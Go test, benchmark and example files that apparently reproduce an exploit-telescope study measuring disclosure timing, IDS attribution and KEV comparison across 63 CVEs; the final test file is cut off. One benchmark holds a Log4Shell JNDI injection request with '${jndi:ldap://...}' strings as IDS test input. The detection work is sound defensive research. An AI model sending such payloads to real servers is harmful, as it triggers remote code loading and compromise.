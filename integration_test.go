package repro

import (
	"math"
	"testing"

	"repro/wayback"
)

// TestFullStudyIntegration runs the complete pipeline at full scale — the
// workload the paper's Appendix E implies (~115 k exploit events), every
// CVE, IDS attribution, lifecycle assembly, and all headline analyses — and
// asserts the reproduced values against the paper in one place. This is the
// repository's "does the whole thing still reproduce the paper" switch; it
// runs in a few seconds.
func TestFullStudyIntegration(t *testing.T) {
	if testing.Short() {
		t.Skip("full-scale study skipped in -short mode")
	}
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: 1})
	if err != nil {
		t.Fatal(err)
	}
	res, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}

	// Scale of the capture (Section 4).
	if res.Stats.MatchedEvents < 100000 {
		t.Errorf("exploit events = %d, want the full ~115k", res.Stats.MatchedEvents)
	}
	if res.Stats.DistinctCVEs != 63 {
		t.Errorf("distinct CVEs = %d, want 63", res.Stats.DistinctCVEs)
	}

	check := func(name string, got, want, tol float64) {
		t.Helper()
		if math.Abs(got-want) > tol {
			t.Errorf("%s = %.3f, want %.3f ± %.3f", name, got, want, tol)
		}
	}

	// Table 4 / Finding 3.
	check("mean skill", res.MeanSkill(), 0.37, 0.01)
	for _, r := range res.Table4Results() {
		switch r.Pair.String() {
		case "D < A":
			check("Table 4 D<A", r.Satisfied, 0.56, 0.015)
		case "X < A":
			check("Table 4 X<A", r.Satisfied, 0.39, 0.01)
		case "F < P":
			check("Table 4 F<P", r.Satisfied, 0.13, 0.01)
		}
	}

	// Table 5 / Section 6.
	for _, r := range res.Table5Results() {
		switch r.Pair.String() {
		case "D < A":
			if r.Satisfied < 0.95 {
				t.Errorf("Table 5 D<A = %.3f, want >= 0.95", r.Satisfied)
			}
		case "F < P":
			if r.Satisfied > 0.03 {
				t.Errorf("Table 5 F<P = %.3f, want ~0.01", r.Satisfied)
			}
		}
	}
	if share := res.MitigatedShare(); share < 0.95 {
		t.Errorf("mitigated share = %.3f, want >= 0.95", share)
	}

	// Finding 7.
	f7 := res.Finding7()
	check("Finding 7 skill gain", f7.SkillImprovement, 0.31, 0.05)

	// Finding 12 via Figure 7.
	f := res.Figure7()
	if med := f.Unmit.Quantile(0.5); med < 15 || med > 60 {
		t.Errorf("unmitigated exposure median = %.0f days, want ~30", med)
	}

	// Findings 15-17 via the KEV join.
	kev := res.KEVComparison()
	if kev.OverlapCount != 44 {
		t.Errorf("KEV overlap = %d, want 44", kev.OverlapCount)
	}
	check("telescope-first share", kev.DscopeFirstShare, 0.59, 0.1)

	// Case studies.
	if got := len(res.Figure8().Times); got < 5000 {
		t.Errorf("Log4Shell sessions = %d, want ~6.2k", got)
	}
	if got := len(res.Figure12().Times); got < 45000 {
		t.Errorf("Confluence sessions = %d, want ~50k", got)
	}
}
