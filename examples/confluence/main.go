// Confluence case study (Appendix C): CVE-2022-26134, the study's largest
// campaign, plus the untargeted-OGNL phenomenon of Finding 19 — exploit
// traffic matching the Confluence signature from the very start of the
// study, over a year before the CVE existed.
package main

import (
	"fmt"
	"log"

	"repro/internal/core"
	"repro/internal/datasets"
	"repro/internal/report"
	"repro/wayback"
)

func main() {
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: 25})
	if err != nil {
		log.Fatal(err)
	}
	res, err := study.Run()
	if err != nil {
		log.Fatal(err)
	}

	// Figure 12: the Confluence campaign. Spike at the June 2022
	// disclosure, then a *rising* rate to the end of the study as
	// adversaries keep harvesting legacy installs.
	f12 := res.Figure12()
	fmt.Printf("Figure 12 — CVE-2022-26134 sessions over time (n=%d)\n", len(f12.Times))
	fmt.Printf("  CDF by days since publication: %s\n\n", report.Sparkline(f12.CDF, 64))

	// Finding 18: rapid mitigation. The signature deployed within a day of
	// the paper's Appendix-C account; nearly all sessions struck after it.
	rep := core.CaseStudy(res.Events, "2022-26134")
	fmt.Printf("Finding 18: %.2f%% of %d sessions mitigated (paper: 99.6%%)\n",
		rep.MitigatedShare*100, rep.Sessions)
	fmt.Printf("  first event day %+.1f, last day %+.1f\n\n", rep.FirstDay, rep.LastDay)

	// Finding 19: untargeted exploitation. The generic OGNL-injection CVE
	// in the study shows traffic from the study's first days — these
	// scanners weren't looking for Confluence (they avoided port 8090),
	// but their payloads would have exploited it.
	meta := datasets.StudyCVEByID("2022-28938")
	ognl := core.CaseStudyCDF(res.Events, "2022-28938", meta.Published)
	pre := 0
	for _, d := range ognl.DaysSince {
		if d < 0 {
			pre++
		}
	}
	fmt.Printf("Finding 19: untargeted OGNL scanning (CVE-%s)\n", meta.ID)
	fmt.Printf("  %d sessions, %d before the CVE was published\n", len(ognl.DaysSince), pre)
	fmt.Printf("  earliest observation %.0f days before publication (study start)\n", -ognl.CDF.Min())

	// Port spread: the leading traffic was not aimed at Confluence's 8090.
	ports := map[uint16]int{}
	for _, ev := range res.Events {
		if ev.CVE == "2022-28938" {
			ports[ev.Dst.Port]++
		}
	}
	fmt.Printf("  targeted ports: %v (port-insensitive rules made these visible)\n", keys(ports))

	// The paper's proposed follow-up: use payload transferability to find
	// known exploits applied to novel services automatically.
	trep := res.TransferScan(5)
	fmt.Printf("\ntransferability scan: %d/%d held-out sessions matched a known exploit family;\n",
		trep.Matched, trep.Sessions)
	fmt.Printf("%d applied one to a port its family never targeted (Finding 19, automated)\n",
		len(trep.NovelDomain))
}

func keys(m map[uint16]int) []uint16 {
	var out []uint16
	for k := range m {
		out = append(out, k)
	}
	return out
}
