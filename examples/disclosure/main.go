// Disclosure artifacts and transferability (Section 8.2 and Finding 19):
// generate the machine-readable disclosure records the paper argues
// researchers should publish, validate and project them onto the CERT
// lifecycle, then run the known-payload/novel-domain detector over the
// study's traffic.
package main

import (
	"encoding/json"
	"fmt"
	"log"
	"os"

	"repro/internal/artifacts"
	"repro/internal/lifecycle"
	"repro/wayback"
)

func main() {
	// A disclosure artifact for Log4Shell, as Section 8.2 would have had
	// the original researchers publish it.
	a, err := artifacts.FromStudy("2021-44228")
	if err != nil {
		log.Fatal(err)
	}
	if err := a.Validate(); err != nil {
		log.Fatal(err)
	}
	fmt.Println("disclosure artifact for CVE-2021-44228 (machine-readable):")
	enc := json.NewEncoder(os.Stdout)
	enc.SetIndent("  ", "  ")
	if err := enc.Encode(a); err != nil {
		log.Fatal(err)
	}

	// Project onto the six-event CERT model: the artifact is sufficient
	// input for every lifecycle analysis in this repository.
	tl := a.Timeline()
	fmt.Println("\nprojected CERT lifecycle events:")
	for _, e := range lifecycle.EventTypes() {
		if at, ok := tl.Get(e); ok {
			fmt.Printf("  %s  %s\n", e.Letter(), at.Format("2006-01-02 15:04"))
		}
	}

	// Finding 19: learn each CVE's payload family from its first
	// observations, then flag known payloads on ports their family never
	// targeted — candidate exposures of other software to the same
	// exploit.
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: 100})
	if err != nil {
		log.Fatal(err)
	}
	res, err := study.Run()
	if err != nil {
		log.Fatal(err)
	}
	rep := res.TransferScan(5)
	fmt.Printf("\ntransferability scan: %d sessions, %d matched a known family,\n",
		rep.Sessions, rep.Matched)
	fmt.Printf("%d applied a known exploit to a novel port — e.g.:\n", len(rep.NovelDomain))
	for i, m := range rep.NovelDomain {
		if i == 5 {
			fmt.Printf("  ... and %d more\n", len(rep.NovelDomain)-5)
			break
		}
		fmt.Printf("  %-18s on port %-5d (similarity %.2f)\n", m.Family, m.Port, m.Similarity)
	}
}
