// Log4Shell case study (Section 7.1): replay the CVE-2021-44228 campaign —
// including the adversarial obfuscation arms race of Table 6 — through the
// telescope and IDS, then reproduce Figures 8 and 9.
package main

import (
	"fmt"
	"log"

	"repro/internal/report"
	"repro/wayback"
)

func main() {
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: 10})
	if err != nil {
		log.Fatal(err)
	}
	res, err := study.Run()
	if err != nil {
		log.Fatal(err)
	}

	// Table 6: the five signature waves Cisco shipped as adversaries
	// layered Log4j escape sequences over the jndi keyword.
	fmt.Print(res.Table6().String())

	// Figure 8: the campaign over time. The spike after the December 10
	// disclosure is visible, with sustained traffic for the following year.
	f8 := res.Figure8()
	fmt.Printf("\nFigure 8 — Log4Shell sessions over time (n=%d)\n", len(f8.Times))
	fmt.Printf("  CDF by days since publication: %s\n", report.Sparkline(f8.CDF, 64))
	fmt.Printf("  first event %.1f days after disclosure; half of all traffic within %.0f days\n",
		f8.CDF.Min(), f8.CDF.Median())

	// Figure 9: variant groups during the first weeks. Each group is a
	// distinct evasion generation; the IDS attributes sessions to variants
	// by signature, never by ground truth.
	fmt.Println("\nFigure 9 — variant groups, first 21 days (increasing sophistication):")
	for _, s := range res.Figure9() {
		med := 0.0
		if s.CDF != nil {
			med = s.CDF.Median()
		}
		fmt.Printf("  group %s: %4d sessions, median day %5.1f  %s\n",
			s.Group, len(s.DaysSince), med, report.Sparkline(s.CDF, 32))
	}

	// Finding 13/14 headline numbers.
	rep := findLog4Shell(res)
	fmt.Printf("\n%d total Log4Shell sessions; %.1f%% struck after a signature was live\n",
		rep.sessions, rep.mitigated*100)
}

type l4sReport struct {
	sessions  int
	mitigated float64
}

func findLog4Shell(res *wayback.Results) l4sReport {
	// Mitigation here uses the earliest signature wave (group A, 9 hours
	// after publication); the variant-level analysis is in Figure 9.
	total, mit := 0, 0
	groupA := res.Figure8()
	for _, d := range groupA.DaysSince {
		total++
		if d > 0.4 { // group A deployed at +9h ≈ 0.375 days
			mit++
		}
	}
	out := l4sReport{sessions: total}
	if total > 0 {
		out.mitigated = float64(mit) / float64(total)
	}
	return out
}
