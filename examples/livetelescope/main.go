// Live telescope: the paper's capture methodology on a real TCP stack.
// Binds DSCOPE-style listeners on loopback (accept, stay silent, record the
// client banner), replays a slice of the study workload against them as
// real TCP clients, and attributes the captured sessions with the dated IDS
// — the whole pipeline with no simulation shortcuts.
package main

import (
	"context"
	"fmt"
	"log"
	"time"

	"repro/internal/ids"
	"repro/internal/scanner"
	"repro/internal/telescope"
)

func main() {
	live, err := telescope.NewLive(telescope.LiveConfig{
		Ports:        []int{0, 0, 0}, // three instances on ephemeral ports
		BannerWindow: time.Second,
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("live telescope instances:")
	for _, a := range live.Addrs() {
		fmt.Println("  ", a)
	}

	rs, err := scanner.StudyRuleset()
	if err != nil {
		log.Fatal(err)
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})

	// A slice of the study workload: exploit payloads plus noise.
	bps, err := scanner.Build(scanner.Config{Seed: 7, Scale: 2500, Noise: 6})
	if err != nil {
		log.Fatal(err)
	}
	if len(bps) > 30 {
		bps = bps[:30]
	}

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	addrs := live.Addrs()
	for i, bp := range bps {
		if err := telescope.Probe(ctx, addrs[i%len(addrs)].String(), bp.Payload); err != nil {
			log.Fatalf("probe %d: %v", i, err)
		}
	}
	live.Close()

	byCVE := map[string]int{}
	noise := 0
	for s := range live.Sessions() {
		sess := s
		m, ok := engine.Earliest(&sess)
		if !ok {
			noise++
			continue
		}
		cve := "(no CVE ref)"
		if len(m.CVEs) > 0 {
			cve = "CVE-" + m.CVEs[0]
		}
		byCVE[cve]++
	}
	fmt.Printf("\ncaptured over real TCP: %d exploit sessions, %d background\n",
		len(bps)-noise, noise)
	for cve, n := range byCVE {
		fmt.Printf("  %-16s x%d\n", cve, n)
	}
	fmt.Println("\nevery attribution above came from banner bytes captured off a real socket.")
}
