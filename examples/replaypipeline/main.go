// Replay pipeline: the operational workflow a deployment would run — write
// the telescope's capture as rotated pcap segments, replay every segment in
// order through the dated IDS post facto, and emit the study report. This
// is the paper's "retrospective identification of exploit traffic that
// occurred before public release of signatures" as an end-to-end tool
// chain, with no in-memory shortcuts between stages.
package main

import (
	"fmt"
	"log"
	"os"
	"path/filepath"

	"repro/internal/ids"
	"repro/internal/pcapio"
	"repro/internal/scanner"
	"repro/internal/telescope"
)

func main() {
	dir, err := os.MkdirTemp("", "wayback-replay-*")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(dir)

	// Stage 1: capture. The telescope writes rotated 256 KiB segments, the
	// way a long-running deployment bounds file sizes.
	bps, err := scanner.Build(scanner.Config{Seed: 1, Scale: 50, Noise: 100})
	if err != nil {
		log.Fatal(err)
	}
	rw, err := pcapio.NewRotatingWriter(dir, "dscope", pcapio.LinkTypeEthernet, 256<<10,
		pcapio.WithNanoPrecision())
	if err != nil {
		log.Fatal(err)
	}
	tel := telescope.NewSim(telescope.SimConfig{Seed: 1})
	if err := tel.WritePcap(bps, rw); err != nil {
		log.Fatal(err)
	}
	if err := rw.Close(); err != nil {
		log.Fatal(err)
	}
	files := rw.Files()
	var total int64
	for _, f := range files {
		info, err := os.Stat(f)
		if err != nil {
			log.Fatal(err)
		}
		total += info.Size()
	}
	fmt.Printf("capture: %d sessions -> %d rotated segments, %.1f MiB under %s\n",
		len(bps), len(files), float64(total)/(1<<20), filepath.Base(dir))

	// Stage 2: post-facto replay. Every segment, in order, through decode,
	// TCP reassembly, and the dated ruleset.
	rs, err := scanner.StudyRuleset()
	if err != nil {
		log.Fatal(err)
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})
	src, err := pcapio.OpenFiles(files...)
	if err != nil {
		log.Fatal(err)
	}
	defer src.Close()
	events, stats, err := ids.ScanCapture(src, engine)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("replay: %d packets -> %d sessions -> %d exploit events across %d CVEs\n",
		stats.Packets, stats.Sessions, stats.MatchedEvents, stats.DistinctCVEs)

	// Stage 3: the retrospective payoff — matches that PRECEDE their own
	// signature's publication, which only post-facto evaluation can see.
	pubs, err := scanner.SIDPublication()
	if err != nil {
		log.Fatal(err)
	}
	leading := ids.AuditLeadingMatches(events, pubs)
	fmt.Printf("\nretrospective finds (traffic before its signature existed): %d CVEs\n", len(leading))
	for i, lm := range leading {
		if i == 5 {
			fmt.Printf("  ... and %d more\n", len(leading)-5)
			break
		}
		fmt.Printf("  CVE-%-12s first seen %s, %.0f days before the rule\n",
			lm.CVE, lm.FirstMatch.Format("2006-01-02"), lm.Lead.Hours()/24)
	}
}
