// KEV comparison (Section 7.2): join the telescope's exploitation evidence
// against the CISA Known Exploited Vulnerabilities catalog and reproduce
// Findings 15–17 and Figures 10–11.
package main

import (
	"fmt"
	"log"

	"repro/internal/report"
	"repro/wayback"
)

func main() {
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: 100})
	if err != nil {
		log.Fatal(err)
	}
	res, err := study.Run()
	if err != nil {
		log.Fatal(err)
	}

	cmp := res.KEVComparison()
	fmt.Print(report.KEVTable(cmp).String())

	// Figure 10: KEV's addition-minus-publication distribution. KEV sees
	// more pre-publication exploitation overall (manual reports reach it),
	// but with shorter leads than the telescope's longest observations.
	fmt.Printf("\nFigure 10 — KEV A−P (days): %s\n", report.Sparkline(cmp.KevAMinusP, 64))
	fmt.Printf("  KEV P(A<P) = %.2f vs telescope %.2f (Finding 16)\n",
		cmp.KevPrePublicationRate, cmp.DscopePrePublicationRate)

	// Figure 11: per shared CVE, KEV addition date minus the telescope's
	// first observed exploitation. Positive = telescope saw it first.
	fmt.Printf("\nFigure 11 — KEV lag behind first telescope observation (days): %s\n",
		report.Sparkline(cmp.Delta, 64))
	fmt.Printf("  telescope first on %.0f%% of shared CVEs; >30 days early on %.0f%% (Finding 17)\n",
		cmp.DscopeFirstShare*100, cmp.Over30DaysShare*100)

	fmt.Println("\ntakeaway: automated telescope-based attribution and KEV's manual")
	fmt.Println("reporting are complementary — the telescope often leads by a month.")
}
