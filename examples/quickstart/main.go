// Quickstart: run a scaled-down CVE Wayback Machine study end to end and
// print the paper's headline results — Table 4 (per-CVE CVD skill) and the
// quantitative-exposure summary from Section 6.
package main

import (
	"fmt"
	"log"

	"repro/wayback"
)

func main() {
	// Scale 100 keeps this under a second: every one of the 63 CVEs is
	// still present, with event volumes divided by 100.
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: 100})
	if err != nil {
		log.Fatal(err)
	}
	res, err := study.Run()
	if err != nil {
		log.Fatal(err)
	}

	fmt.Printf("captured %d sessions -> %d exploit events across %d CVEs\n\n",
		res.Stats.Sessions, res.Stats.MatchedEvents, res.Stats.DistinctCVEs)

	// Table 4: coordinated-disclosure skill, per CVE. These values are
	// computed from the embedded Appendix E lifecycles and land on the
	// paper's printed numbers.
	fmt.Print(res.Table4().String())
	fmt.Printf("\nmean skill %.2f (paper: 0.37)\n", res.MeanSkill())

	// Section 6: the same disclosure process looks far more effective when
	// weighted by actual exploit traffic.
	fmt.Printf("exploit traffic striking already-defended CVEs: %.1f%% (paper: 95%%)\n",
		res.MitigatedShare()*100)

	// Finding 7: the counterfactual where IDS vendors join disclosure.
	f7 := res.Finding7()
	fmt.Printf("if IDS vendors joined disclosure: D<A %.2f -> %.2f (skill %+.0f%%)\n",
		f7.BeforeSatisfied, f7.AfterSatisfied, f7.SkillImprovement*100)
}
