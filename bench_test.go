// Benchmark harness: one benchmark per table and figure of the paper's
// evaluation, plus the ablation benches DESIGN.md calls out. Each benchmark
// regenerates its artifact from a full study run and reports the headline
// values as benchmark metrics, so
//
//	go test -bench=. -benchmem
//
// both times the pipeline and prints the reproduced numbers next to the
// paper's. Benchmarks share a study per configuration via sync.OnceValues.
package repro

import (
	"sync"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/datasets"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/scanner"
	"repro/internal/tcpasm"
	"repro/internal/telescope"
	"repro/wayback"
)

// benchScale divides the paper's 115 k-event volume for the shared study.
const benchScale = 20

var sharedStudy = sync.OnceValues(func() (*wayback.Results, error) {
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: benchScale})
	if err != nil {
		return nil, err
	}
	return study.Run()
})

func study(b *testing.B) *wayback.Results {
	b.Helper()
	res, err := sharedStudy()
	if err != nil {
		b.Fatal(err)
	}
	return res
}

// BenchmarkStudyPipeline times the full pipeline end to end: workload
// generation, telescope capture, IDS attribution, lifecycle assembly.
func BenchmarkStudyPipeline(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s, err := wayback.NewStudy(wayback.Config{Seed: int64(i), Scale: 100})
		if err != nil {
			b.Fatal(err)
		}
		res, err := s.Run()
		if err != nil {
			b.Fatal(err)
		}
		if res.Stats.DistinctCVEs != 63 {
			b.Fatalf("distinct CVEs = %d", res.Stats.DistinctCVEs)
		}
	}
}

// BenchmarkStudyPipelinePcap times the byte-exact pcap path.
func BenchmarkStudyPipelinePcap(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s, err := wayback.NewStudy(wayback.Config{Seed: int64(i), Scale: 200, UsePcap: true})
		if err != nil {
			b.Fatal(err)
		}
		if _, err := s.Run(); err != nil {
			b.Fatal(err)
		}
	}
}

// ---- Tables ----

func BenchmarkTable3(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := study(b)
		if len(res.Table3()) == 0 {
			b.Fatal("empty table 3")
		}
	}
}

func BenchmarkTable4(b *testing.B) {
	res := study(b)
	var mean float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows := res.Table4Results()
		mean = core.MeanSkill(rows)
	}
	b.ReportMetric(mean, "mean-skill(paper:0.37)")
}

func BenchmarkTable5(b *testing.B) {
	res := study(b)
	var da float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, r := range res.Table5Results() {
			if r.Pair.String() == "D < A" {
				da = r.Satisfied
			}
		}
	}
	b.ReportMetric(da, "per-event-D<A(paper:0.95)")
}

func BenchmarkTable6(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if got := len(res.Table6().Rows); got != 15 {
			b.Fatalf("table 6 rows = %d", got)
		}
	}
}

// ---- Figures ----

func BenchmarkFigure1(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res.Figure1().Total() != 63 {
			b.Fatal("figure 1 total")
		}
	}
}

func BenchmarkFigure2(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		series := res.Figure2()
		if len(series) != 3 {
			b.Fatal("figure 2 series")
		}
	}
}

func BenchmarkFigure3(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res.Figure3().Total() == 0 {
			b.Fatal("figure 3 empty")
		}
	}
}

func BenchmarkFigure4(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res.Figure4().Total() == 0 {
			b.Fatal("figure 4 empty")
		}
	}
}

func BenchmarkFigure5(b *testing.B) {
	res := study(b)
	var da float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		figs := res.Figure5()
		da = figs[0].SatisfiedAtZero // A - D caption
	}
	b.ReportMetric(da, "P(D<A)(paper:0.56)")
}

func BenchmarkFigure6(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f := res.Figure6()
		if len(f.Mitigated) == 0 {
			b.Fatal("figure 6 empty")
		}
	}
}

func BenchmarkFigure7(b *testing.B) {
	res := study(b)
	var conc float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f := res.Figure7()
		conc = core.UnmitigatedConcentration(f, 30)
	}
	b.ReportMetric(conc, "unmit-30d-conc(paper:0.50)")
}

func BenchmarkFigure8(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res.Figure8().CDF == nil {
			b.Fatal("figure 8 empty")
		}
	}
}

func BenchmarkFigure9(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if got := len(res.Figure9()); got != 5 {
			b.Fatalf("figure 9 groups = %d", got)
		}
	}
}

func BenchmarkFigure10(b *testing.B) {
	res := study(b)
	var rate float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cmp := res.KEVComparison()
		rate = cmp.KevPrePublicationRate
	}
	b.ReportMetric(rate, "KEV-P(A<P)(paper:0.18)")
}

func BenchmarkFigure11(b *testing.B) {
	res := study(b)
	var over30 float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cmp := res.KEVComparison()
		over30 = cmp.Over30DaysShare
	}
	b.ReportMetric(over30, "seen>30d-early(paper:0.50)")
}

func BenchmarkFigure12(b *testing.B) {
	res := study(b)
	var mitigated float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rep := core.CaseStudy(res.Events, "2022-26134")
		mitigated = rep.MitigatedShare
	}
	b.ReportMetric(mitigated, "confluence-mitigated(paper:0.996)")
}

func BenchmarkFigure13to18(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if got := len(res.Figures13to18()); got != 6 {
			b.Fatalf("appendix figures = %d", got)
		}
	}
}

// ---- Findings ----

func BenchmarkFinding7(b *testing.B) {
	res := study(b)
	var gain float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f := res.Finding7()
		gain = f.SkillImprovement
	}
	b.ReportMetric(gain, "skill-gain(paper:0.32)")
}

// ---- Ablations (DESIGN.md) ----

// BenchmarkAblationPrefilter compares the Aho–Corasick prefiltered engine
// against a full per-rule scan of every session.
func BenchmarkAblationPrefilter(b *testing.B) {
	rs, err := scanner.StudyRuleset()
	if err != nil {
		b.Fatal(err)
	}
	bps, err := scanner.Build(scanner.Config{Seed: 1, Scale: 200})
	if err != nil {
		b.Fatal(err)
	}
	tel := telescope.NewSim(telescope.SimConfig{Seed: 1})
	sessions := tel.Sessions(bps)
	for _, variant := range []struct {
		name string
		cfg  ids.Config
	}{
		{"prefilter", ids.Config{PortInsensitive: true}},
		{"naive", ids.Config{PortInsensitive: true, DisablePrefilter: true}},
	} {
		b.Run(variant.name, func(b *testing.B) {
			engine := ids.NewEngine(rs, variant.cfg)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				events := ids.MatchSessions(sessions, engine, nil)
				if len(events) == 0 {
					b.Fatal("no events")
				}
			}
		})
	}
}

// BenchmarkAblationPortInsensitive measures the recall cost of leaving rules
// port-constrained, the paper's Section 3.1 methodology point.
func BenchmarkAblationPortInsensitive(b *testing.B) {
	rs, err := scanner.StudyRuleset()
	if err != nil {
		b.Fatal(err)
	}
	bps, err := scanner.Build(scanner.Config{Seed: 1, Scale: 200})
	if err != nil {
		b.Fatal(err)
	}
	tel := telescope.NewSim(telescope.SimConfig{Seed: 1})
	sessions := tel.Sessions(bps)
	insEngine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})
	strictEngine := ids.NewEngine(rs, ids.Config{})
	var recall float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ins := ids.MatchSessions(sessions, insEngine, nil)
		strict := ids.MatchSessions(sessions, strictEngine, nil)
		recall = float64(len(strict)) / float64(len(ins))
	}
	b.ReportMetric(recall, "port-sensitive-recall")
}

// BenchmarkAblationEarliestRule compares the paper's earliest-published
// retention against naive first-match on multi-match sessions.
func BenchmarkAblationEarliestRule(b *testing.B) {
	rs, err := scanner.StudyRuleset()
	if err != nil {
		b.Fatal(err)
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})
	// A session matching two Log4Shell signatures from different waves:
	// jndi in both URI (group A) and cookie (group B).
	s := &tcpasm.Session{
		Client:     endpoint("203.0.113.9", 40000),
		Server:     endpoint("10.0.0.1", 8080),
		Start:      datasets.Log4ShellPublished.Add(48 * time.Hour),
		End:        datasets.Log4ShellPublished.Add(48*time.Hour + time.Second),
		ClientData: []byte("GET /?x=${jndi:ldap://e/a} HTTP/1.1\r\nHost: h\r\nCookie: s=${jndi:ldap://e/b}\r\n\r\n"),
		Complete:   true,
	}
	var sid int
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m, ok := engine.Earliest(s)
		if !ok {
			b.Fatal("no match")
		}
		sid = m.SID
	}
	if sid != 58722 { // group A (earliest wave) must win over group B's 300057
		b.Fatalf("earliest-published returned sid %d", sid)
	}
}

// BenchmarkAblationLifetime sweeps the DSCOPE instance lifetime and reports
// the unique-IP coverage each achieves, the paper's 10-minute design choice.
func BenchmarkAblationLifetime(b *testing.B) {
	bps, err := scanner.Build(scanner.Config{Seed: 1, Scale: 100})
	if err != nil {
		b.Fatal(err)
	}
	for _, lifetime := range []time.Duration{time.Minute, 10 * time.Minute, time.Hour, 24 * time.Hour} {
		b.Run(lifetime.String(), func(b *testing.B) {
			var cov telescope.CoverageStats
			for i := 0; i < b.N; i++ {
				tel := telescope.NewSim(telescope.SimConfig{Seed: 1, InstanceLifetime: lifetime})
				cov = telescope.Coverage(tel.Sessions(bps))
			}
			b.ReportMetric(float64(cov.UniqueTelescopeIPs), "unique-ips")
		})
	}
}

// BenchmarkAblationBaseline compares the exact history enumeration against
// Monte-Carlo estimation of the luck model.
func BenchmarkAblationBaseline(b *testing.B) {
	m := core.HouseholderSpringMatrix()
	b.Run("exact", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			core.BaselineProbabilities(&m, core.ModelWalk)
		}
	})
	b.Run("montecarlo-100k", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			core.MonteCarloBaseline(&m, 100000, int64(i))
		}
	})
}

func endpoint(addr string, port uint16) packet.Endpoint {
	return packet.Endpoint{Addr: packet.MustAddr(addr), Port: port}
}

// BenchmarkAblationSignatureFilter measures the paper's Section 3.1
// filtering step: the full ruleset over legacy-heavy traffic vs the
// filtered study ruleset, reporting how much of the traffic the filter
// excludes from analysis.
func BenchmarkAblationSignatureFilter(b *testing.B) {
	var excluded float64
	for i := 0; i < b.N; i++ {
		filtered, err := wayback.NewStudy(wayback.Config{Seed: 2, Scale: 300, LegacyScans: 200})
		if err != nil {
			b.Fatal(err)
		}
		fres, err := filtered.Run()
		if err != nil {
			b.Fatal(err)
		}
		unfiltered, err := wayback.NewStudy(wayback.Config{Seed: 2, Scale: 300, LegacyScans: 200, UnfilteredRules: true})
		if err != nil {
			b.Fatal(err)
		}
		ures, err := unfiltered.Run()
		if err != nil {
			b.Fatal(err)
		}
		excluded = 1 - float64(fres.Stats.MatchedEvents)/float64(ures.Stats.MatchedEvents)
	}
	b.ReportMetric(excluded, "legacy-share-excluded")
}

// BenchmarkFullStudy runs the complete full-scale study (~115k exploit
// events) end to end — the headline "regenerate the paper" timing.
func BenchmarkFullStudy(b *testing.B) {
	b.ReportAllocs()
	var mean float64
	for i := 0; i < b.N; i++ {
		s, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: 1})
		if err != nil {
			b.Fatal(err)
		}
		res, err := s.Run()
		if err != nil {
			b.Fatal(err)
		}
		mean = res.MeanSkill()
	}
	b.ReportMetric(mean, "mean-skill(paper:0.37)")
}
