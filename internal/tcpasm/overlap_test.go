package tcpasm

import (
	"fmt"
	"testing"
	"time"

	"repro/internal/fuzzcorpus"
	"repro/internal/packet"
)

// sendClientAt injects a client data segment at an explicit sequence offset
// relative to the post-handshake base, without advancing the scripted cursor
// — the raw material of overlap games.
func (f *flowBuilder) sendClientAt(base uint32, off int, data []byte) {
	f.feed(packet.Segment{
		Src: cli, Dst: srv, Seq: base + uint32(off), Ack: f.srvSeq,
		Flags: packet.FlagPSH | packet.FlagACK, Payload: data,
	})
}

// TestOverlapConflictFirstWins documents the silent-wrong-verdict the
// assembler produced before conflict detection existed: a retransmission of
// the same sequence range with different bytes was dropped without a trace,
// so the retained stream was whichever copy arrived first and nothing marked
// the session as contested. The bytes still resolve first-wins by default —
// what changed is that the session now loudly carries the conflict.
func TestOverlapConflictFirstWins(t *testing.T) {
	a := NewAssembler(Config{})
